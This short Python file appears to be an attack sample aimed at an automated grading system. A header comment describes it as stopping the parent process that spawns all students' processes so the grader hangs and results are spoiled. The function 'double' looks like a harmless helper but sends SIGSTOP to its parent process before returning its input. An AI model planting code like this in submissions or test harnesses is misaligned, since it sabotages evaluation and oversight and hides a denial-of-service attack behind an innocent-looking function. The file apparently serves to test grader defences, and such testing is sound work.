# {"attack": "Stops the process from which all students' processes are made.", "breach": "hang", "spoils": true}

import os
import signal


def double(x):
    os.kill(os.getppid(), signal.SIGSTOP)
    return x
